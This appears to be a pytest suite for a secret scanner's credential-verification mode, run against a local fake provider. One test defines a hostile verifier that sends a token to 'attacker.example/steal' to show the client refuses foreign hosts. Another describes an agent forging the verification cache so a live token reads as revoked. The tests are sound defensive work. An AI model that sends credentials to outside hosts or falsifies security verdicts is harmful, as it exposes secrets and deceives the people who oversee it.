"""`unleak scan --verify`: tri-state verdicts from each provider's identity endpoint, played by a local HTTPS fake
(tests/scanner/fake_providers.py) reached through the loopback-only override. No test touches the internet."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests import fakes
from tests.conftest import GitRepo, run_cli
from tests.scanner.fake_providers import FakeProviders, serve


@pytest.fixture
def provider(tmp_path: Path) -> Iterator[tuple[FakeProviders, dict[str, str]]]:
    state = FakeProviders()
    srv, url, ca = serve(tmp_path, state)
    env = {"UNLEAK_VERIFY_OVERRIDE": f"*={url}", "UNLEAK_VERIFY_CA_FILE": str(ca)}
    yield state, env
    srv.shutdown()


def _scan(repo: GitRepo, env: dict[str, str], *extra: str) -> tuple[dict, subprocess.CompletedProcess[str]]:
    r = run_cli("scan", "--verify", "--format", "json", *extra, cwd=repo.path, env=env)
    assert r.returncode in (0, 1), r.stderr
    return json.loads(r.stdout), r


def _verdicts(doc: dict) -> dict[str, dict]:
    return {f["rule_id"] + ":" + str(f["line"]): f.get("verified", {}) for f in doc["findings"]}


# (rule, generator, expected account or scope fragment when valid)
PROVIDERS = [
    ("UL001", fakes.github_pat, "octo-user"),
    ("UL002", fakes.github_fine_grained, "octo-user"),
    ("UL005", fakes.gitlab_pat, "user id 42"),
    ("UL030", fakes.slack_bot_token, "deploybot@Acme"),
    ("UL032", fakes.slack_webhook, ""),
    ("UL020", fakes.stripe_live_key, "acct_1Fake"),
    ("UL040", fakes.openai_key, ""),
    ("UL041", fakes.anthropic_key, ""),
    ("UL042", fakes.huggingface_token, "hf-user"),
    ("UL050", fakes.google_api_key, ""),
    ("UL063", fakes.sendgrid_key, ""),
    ("UL064", fakes.mailchimp_key, "Acme Mail"),
    ("UL070", fakes.npm_token, "npm-user"),
]


@pytest.mark.parametrize(("rule", "gen", "account"), PROVIDERS, ids=[p[0] for p in PROVIDERS])
def test_valid_and_invalid_per_provider(repo: GitRepo, provider: tuple[FakeProviders, dict[str, str]], rule: str,
                                        gen: object, account: str) -> None:
    state, env = provider
    live, dead = gen(), gen()  # type: ignore[operator]
    state.valid.add(live)
    repo.commit("x", {"a.env": f"LIVE_CRED={live}\n", "b.env": f"DEAD_CRED={dead}\n"})
    doc, r = _scan(repo, env)
    got = {f["path"]: f for f in doc["findings"] if f["rule_id"] == rule}
    assert got["a.env"]["verified"]["status"] == "valid", got
    assert got["b.env"]["verified"]["status"] == "invalid", got
    assert account in json.dumps(got["a.env"]["verified"])
    for value in (live, dead):
        assert value not in r.stdout + r.stderr
    assert "verifying 2 credentials" in r.stderr


def test_scopes_and_expiry_are_reported(repo: GitRepo, provider: tuple[FakeProviders, dict[str, str]]) -> None:
    state, env = provider
    tok = fakes.github_pat()
    state.valid.add(tok)
    repo.commit("x", {"c.py": f'TOKEN = "{tok}"\n'})
    doc, _ = _scan(repo, env)
    v = doc["findings"][0]["verified"]
    assert v == {"status": "valid", "provider": "github", "account": "octo-user", "scopes": ["repo", "gist"],
                 "expires": "2027-01-01 UTC"}


def test_fine_grained_github_token_says_its_permissions_are_not_listed(
        repo: GitRepo, provider: tuple[FakeProviders, dict[str, str]]) -> None:
    state, env = provider
    tok = fakes.github_fine_grained()
    state.valid.add(tok)
    repo.commit("x", {"c.py": f'TOKEN = "{tok}"\n'})
    doc, _ = _scan(repo, env)
    v = doc["findings"][0]["verified"]
    assert v["status"] == "valid" and "scopes" not in v
    assert "fine-grained" in v["reason"] and v["expires"] == "2027-01-01 UTC"


def test_aws_pair_is_signed_and_checked(repo: GitRepo, provider: tuple[FakeProviders, dict[str, str]]) -> None:
    state, env = provider
    kid, secret = fakes.aws_access_key_id(), fakes.aws_secret_key()
    other_kid, wrong = fakes.aws_access_key_id(), fakes.aws_secret_key()
    state.aws[kid] = secret
    state.aws[other_kid] = fakes.aws_secret_key()  # a known key id signed with the wrong secret
    repo.commit("x", {
        "good/credentials": f"[default]\naws_access_key_id = {kid}\naws_secret_access_key = {secret}\n",
        "bad/credentials": f"[default]\naws_access_key_id = {other_kid}\naws_secret_access_key = {wrong}\n",
    })
    doc, _ = _scan(repo, env)
    by = {(f["path"], f["rule_id"]): f.get("verified", {}) for f in doc["findings"]}
    assert by[("good/credentials", "UL011")]["status"] == "valid"
    assert "arn:aws:iam::000000000000:user/ci" in by[("good/credentials", "UL011")]["account"]
    assert by[("good/credentials", "UL010")]["status"] == "valid"  # the key id shares its pair's verdict
    assert by[("bad/credentials", "UL011")] == {"status": "invalid", "provider": "aws",
                                                "reason": "rejected (SignatureDoesNotMatch)"}


def test_half_a_pair_is_unknown_and_nothing_is_sent(repo: GitRepo,
                                                    provider: tuple[FakeProviders, dict[str, str]]) -> None:
    state, env = provider
    repo.commit("x", {"cfg.py": f'AWS_SECRET_ACCESS_KEY = "{fakes.aws_secret_key()}"\n'})
    doc, _ = _scan(repo, env)
    assert doc["findings"][0]["verified"]["status"] == "unknown"
    assert "other half" in doc["findings"][0]["verified"]["reason"]
    assert state.hits == []


def test_twilio_pair(repo: GitRepo, provider: tuple[FakeProviders, dict[str, str]]) -> None:
    state, env = provider
    sid, secret = fakes.twilio_api_key(), fakes.hex32()
    state.twilio[sid] = secret
    repo.commit("x", {"twilio.env": f"TWILIO_API_KEY={sid}\nTWILIO_API_SECRET={secret}\n"})
    doc, _ = _scan(repo, env)
    v = {f["rule_id"]: f.get("verified") for f in doc["findings"]}
    assert v["UL062"]["status"] == "valid", v


def test_answers_are_read_up_to_a_bound(repo: GitRepo, provider: tuple[FakeProviders, dict[str, str]]) -> None:
    state, env = provider
    tok = fakes.github_pat()
    state.valid.add(tok)
    state.mode[tok] = "huge"  # 2 MB: cut at 64 KiB, so the JSON is unreadable and no account is claimed
    repo.commit("x", {"a.env": f"GH={tok}\n"})
    doc, _ = _scan(repo, env)
    assert doc["findings"][0]["verified"] == {"status": "valid", "provider": "github"}


def test_refresh_tokens_are_never_sent(repo: GitRepo, provider: tuple[FakeProviders, dict[str, str]]) -> None:
    state, env = provider
    repo.commit("x", {"a.env": f"GH_REFRESH={fakes.github_pat('ghr_')}\n"})
    doc, _ = _scan(repo, env)
    assert doc["findings"][0]["verified"]["status"] == "unknown" and state.hits == []


@pytest.mark.parametrize(("mode", "reason"), [("ratelimit", "rate limited"), ("malformed", "unexpected answer"),
                                              ("redirect", "not followed")])
def test_unclear_answers_are_unknown(repo: GitRepo, provider: tuple[FakeProviders, dict[str, str]], tmp_path: Path,
                                     mode: str, reason: str) -> None:
    state, env = provider
    (tmp_path / "elsewhere").mkdir()
    other = FakeProviders()
    srv2, url2, _ = serve(tmp_path / "elsewhere", other)
    state.redirect_to = url2 + "/collect"
    tok = fakes.github_pat()
    state.valid.add(tok)
    state.mode[tok] = mode
    repo.commit("x", {"a.env": f"GH={tok}\n"})
    doc, _ = _scan(repo, env)
    v = doc["findings"][0]["verified"]
    assert v["status"] == "unknown" and reason in v["reason"], v
    assert other.hits == []  # a redirect is never followed, to another host or at all
    srv2.shutdown()


def test_slack_malformed_answer_is_unknown(repo: GitRepo, provider: tuple[FakeProviders, dict[str, str]]) -> None:
    state, env = provider
    tok = fakes.slack_bot_token()
    state.mode[tok] = "malformed"
    repo.commit("x", {"a.env": f"SLACK={tok}\n"})
    doc, _ = _scan(repo, env)
    assert doc["findings"][0]["verified"]["status"] == "unknown"


def test_time_budget(repo: GitRepo, provider: tuple[FakeProviders, dict[str, str]]) -> None:
    state, env = provider
    state.delay = 5.0
    repo.commit("x", {"a.env": f"GH={fakes.github_pat()}\n"})
    doc, _ = _scan(repo, env, "--verify-timeout", "0.5")
    v = doc["findings"][0]["verified"]
    assert v["status"] == "unknown" and v["reason"] in ("time budget exceeded", "timed out"), v


def test_unreachable_provider_is_unknown(repo: GitRepo, tmp_path: Path) -> None:
    import socket

    with socket.socket() as s:  # a port nobody listens on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    repo.commit("x", {"a.env": f"GH={fakes.github_pat()}\n"})
    doc, _ = _scan(repo, {"UNLEAK_VERIFY_OVERRIDE": f"*=https://127.0.0.1:{port}"})
    v = doc["findings"][0]["verified"]
    assert v["status"] == "unknown" and v["reason"].startswith("network error"), v


def test_each_secret_is_verified_once_and_cached_without_values(
        repo: GitRepo, provider: tuple[FakeProviders, dict[str, str]]) -> None:
    state, env = provider
    tok = fakes.github_pat()
    state.valid.add(tok)
    repo.commit("x", {"a.env": f"GH={tok}\n", "b.py": f'T = "{tok}"\n', "c.yml": f"token: {tok}\n"})
    doc, _ = _scan(repo, env)
    assert len(doc["findings"]) == 3 and {f["verified"]["status"] for f in doc["findings"]} == {"valid"}
    assert len(state.hits) == 1
    cache = repo.path / ".git" / "unleak" / "verify-cache.json"
    assert tok not in cache.read_text() and (cache.stat().st_mode & 0o777) == 0o600
    doc2, _ = _scan(repo, env)
    assert len(state.hits) == 1  # answered from the cache
    assert doc2["findings"][0]["verified"]["cached"] is True


def test_a_forged_verdict_in_the_cache_is_not_believed(
        repo: GitRepo, provider: tuple[FakeProviders, dict[str, str]], tmp_path: Path) -> None:
    """An agent rewrites the cache so a live token reads "invalid" (already revoked) and signs it with a key of its
    own: the next scan asks the provider again and reports it valid. Under the forger's key (another data
    directory) the same file is believed: the MAC is what stops it."""
    import hashlib
    import hmac

    state, env = provider
    tok = fakes.github_pat()
    state.valid.add(tok)
    repo.commit("x", {"a.env": f"GH={tok}\n"})
    doc, _ = _scan(repo, env)
    assert doc["findings"][0]["verified"]["status"] == "valid" and len(state.hits) == 1
    cache = repo.path / ".git" / "unleak" / "verify-cache.json"
    data = json.loads(cache.read_text())
    for entry in data["entries"].values():
        entry.update(status="invalid", reason="revoked", account="", scopes=[])
    forger = tmp_path / "forger-data"
    (forger / "unleak").mkdir(parents=True)
    key = b"f" * 32
    (forger / "unleak" / "scan-cache.key").write_bytes(key)
    body = json.dumps(data["entries"], sort_keys=True, separators=(",", ":")).encode()
    data["mac"] = hmac.new(key, b"verify-cache\0" + body, hashlib.sha256).hexdigest()
    forged = json.dumps(data)
    cache.write_text(forged)
    doc, _ = _scan(repo, env)
    assert doc["findings"][0]["verified"]["status"] == "valid" and len(state.hits) == 2
    cache.write_text(forged)
    doc, _ = _scan(repo, {**env, "XDG_DATA_HOME": str(forger)})
    assert doc["findings"][0]["verified"]["status"] == "invalid" and len(state.hits) == 2


def test_only_verified_and_verified_first(repo: GitRepo, provider: tuple[FakeProviders, dict[str, str]]) -> None:
    state, env = provider
    live, dead = fakes.github_pat(), fakes.github_pat()
    state.valid.add(live)
    repo.commit("x", {"a.env": f"GH={dead}\n", "z.env": f"GH={live}\n", "m.env": f"PASSWORD={fakes.password()}\n"})
    doc, _ = _scan(repo, env, "--only-verified")
    assert [f["path"] for f in doc["findings"]] == ["z.env"]
    r = run_cli("scan", "--verify", "--verified-first", cwd=repo.path, env=env)
    paths = [ln for ln in r.stdout.splitlines() if ln.endswith(".env")]
    assert paths[0] == "z.env" and paths[-1] == "m.env", r.stdout
    assert "[valid (octo-user; repo, gist; expires 2027-01-01 UTC)]" in r.stdout
    assert "verified: 1 valid, 1 invalid" in r.stdout
    sarif = json.loads(run_cli("scan", "--verify", "--format", "sarif", cwd=repo.path, env=env).stdout)
    props = [res["properties"].get("verified", {}).get("status") for res in sarif["runs"][0]["results"]]
    assert sorted(p for p in props if p) == ["invalid", "valid"]


def test_sorting_flags_need_verify(repo: GitRepo) -> None:
    r = run_cli("scan", "--only-verified", cwd=repo.path)
    assert r.returncode == 2 and "need --verify" in r.stderr


def test_override_accepts_loopback_only(repo: GitRepo) -> None:
    repo.commit("x", {"a.env": f"GH={fakes.github_pat()}\n"})
    r = run_cli("scan", "--verify", cwd=repo.path, env={"UNLEAK_VERIFY_OVERRIDE": "*=https://example.com"})
    assert r.returncode == 2 and "loopback" in r.stderr


def test_config_key_enables_and_flag_disables(repo: GitRepo, provider: tuple[FakeProviders, dict[str, str]]) -> None:
    state, env = provider
    tok = fakes.github_pat()
    repo.commit("x", {"a.env": f"GH={tok}\n", ".unleak.toml": "[verify]\nenabled = true\ntimeout = 20\n"})
    doc = json.loads(run_cli("scan", "--format", "json", cwd=repo.path, env=env).stdout)
    assert doc["findings"][0]["verified"]["status"] == "invalid"
    state.hits.clear()
    doc = json.loads(run_cli("scan", "--no-verify", "--format", "json", cwd=repo.path, env=env).stdout)
    assert "verified" not in doc["findings"][0] and state.hits == []
    repo.write(".unleak.toml", "[verify]\ntimeout = -1\n")
    r = run_cli("scan", cwd=repo.path, env=env)
    assert r.returncode == 2 and "verify.timeout" in r.stderr


def test_per_host_concurrency_is_limited(repo: GitRepo, provider: tuple[FakeProviders, dict[str, str]]) -> None:
    state, env = provider
    state.delay = 0.2
    toks = [fakes.github_pat() for _ in range(12)]
    repo.commit("x", {f"f{i}.env": f"GH={t}\n" for i, t in enumerate(toks)})
    doc, _ = _scan(repo, env)
    assert {f["verified"]["status"] for f in doc["findings"]} == {"invalid"}
    assert len(state.hits) == 12
    assert state.max_inflight["api.github.com"] <= 4


# Any attempt to reach another host: a connect, a datagram sent, a name looked up. (Creating a socket is not the
# test: urllib3, imported with detect-secrets, binds a throw-away IPv6 socket to ::1 to learn whether IPv6 works.)
_GUARD = r"""
import os, socket, sys
def hook(event, args):
    if event in ("socket.connect", "socket.sendto", "socket.sendmsg", "socket.getaddrinfo") and (
            event == "socket.getaddrinfo" or args[0].family in (socket.AF_INET, socket.AF_INET6)):
        sys.stderr.write("NETWORK SOCKET OPENED\n"); sys.stderr.flush(); os._exit(97)
sys.addaudithook(hook)
sys.argv = ["unleak", *sys.argv[1:]]
import runpy
runpy.run_module("unleak", run_name="__main__")
"""


@pytest.mark.parametrize("mode", [(), ("--history",), ("--format", "sarif")])
def test_scan_without_verify_opens_no_socket(repo: GitRepo, mode: tuple[str, ...]) -> None:
    repo.commit("x", {"a.env": f"GH={fakes.github_pat()}\nSLACK={fakes.slack_bot_token()}\n"})
    r = subprocess.run([sys.executable, "-c", _GUARD, "scan", *mode], cwd=repo.path, capture_output=True, text=True,
                       env={**os.environ, "UNLEAK_VERIFY_OVERRIDE": "*=https://127.0.0.1:9"})
    assert r.returncode == 1 and "NETWORK SOCKET" not in r.stderr, r.stderr


def test_the_socket_guard_does_fire(repo: GitRepo) -> None:
    repo.commit("x", {"a.env": f"GH={fakes.github_pat()}\n"})
    r = subprocess.run([sys.executable, "-c", _GUARD, "scan", "--verify"], cwd=repo.path, capture_output=True,
                       text=True, env={**os.environ, "UNLEAK_VERIFY_OVERRIDE": "*=https://127.0.0.1:9"})
    assert r.returncode == 97 and "NETWORK SOCKET" in r.stderr


def test_a_foreign_host_is_refused_before_sending() -> None:
    import re

    from scanner.verify import client, specs

    evil = specs.Verifier("github", ("UL001",), re.escape("api.github.com"), "", "",
                          lambda c: specs.Probe("attacker.example", "GET", "/steal", (("X", c.value),)),
                          specs.generic_read("github"))
    out = client.run([client.Job("k", evil, specs.Credential("ghp_x"))], client.Limits(budget=5))
    assert out["k"].status.value == "unknown" and "not the provider's own host" in out["k"].reason
    assert client.planned_hosts([client.Job("k", evil, specs.Credential("ghp_x"))]) == {}


def test_answer_fields_that_echo_the_credential_are_dropped() -> None:
    from scanner.verify import client, specs
    from scanner.verify.model import Status, Verification

    cred = specs.Credential("tok_secret_value_123")
    v = client._scrub(Verification(Status.VALID, "x", "", "user tok_secret_value_123", ("tok_secret_value_123", "a"),
                                   ""), cred)
    assert v.account == "" and v.scopes == ("a",)


def test_readme_lists_every_verifier() -> None:
    from scanner.verify.specs import VERIFIERS

    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text()
    for v in VERIFIERS:
        assert v.endpoint.split(" (")[0] in readme, v.endpoint


def test_exposure_verify_puts_live_secrets_first(repo: GitRepo, provider: tuple[FakeProviders, dict[str, str]]) -> None:
    state, env = provider
    live, dead = fakes.github_pat(), fakes.github_pat()
    state.valid.add(live)
    repo.commit("add", {"a.env": f"GH_A={dead}\n", "z.env": f"GH_Z={live}\n",
                        "s.env": f"STRIPE={fakes.stripe_live_key()}\n"})
    repo.commit("remove", {"a.env": "GH_A=\n", "z.env": "GH_Z=\n", "s.env": "STRIPE=\n"})
    r = run_cli("exposure", "--verify", "--json", cwd=repo.path, env=env)
    assert r.returncode == 1, r.stderr
    doc = json.loads(r.stdout)
    statuses = [e.get("verified", {}).get("status") for e in doc["exposures"]]
    assert statuses == ["valid", "invalid", "invalid"], statuses  # live first; stripe's fake rejects the key
    assert doc["exposures"][0]["verified"]["account"] == "octo-user"
    text = run_cli("exposure", "--verify", cwd=repo.path, env=env).stdout
    assert "verified     valid (octo-user; repo, gist; expires 2027-01-01 UTC)" in text
    assert "UL001 GitHub token: 2 secret(s)" in text and "— 1 LIVE" in text
    assert text.index("UL001 GitHub token") < text.index("UL020")  # the rule with a live secret comes first
    for value in (live, dead):
        assert value not in r.stdout + r.stderr + text
    md = run_cli("exposure", "--verify", "--format", "markdown", cwd=repo.path, env=env).stdout
    assert "| verified |" in md and "**1 live**" in md


def test_mcp_scan_with_verify(repo: GitRepo, provider: tuple[FakeProviders, dict[str, str]],
                              monkeypatch: pytest.MonkeyPatch) -> None:
    from tests.unleak.test_mcp import Agent, run_agent

    state, env = provider
    for k, v in env.items():
        monkeypatch.setenv(k, v)
    live = fakes.github_pat()
    state.valid.add(live)
    repo.commit("x", {"a.env": f"GH={live}\n"})
    out: dict[str, dict] = {}

    async def scenario(agent: Agent) -> None:
        out["plain"] = await agent.call("scan", {})
        hits_before = len(state.hits)
        out["verified"] = await agent.call("scan", {"verify": True})
        out["sent"] = {"before": hits_before, "n": len(state.hits) - hits_before}

    run_agent(repo.path, scenario)
    assert "verified" not in out["plain"]["findings"][0]  # nothing is sent unless asked
    assert out["sent"] == {"before": 0, "n": 1}
    assert out["verified"]["findings"][0]["verified"]["status"] == "valid"
    assert live not in json.dumps(out)
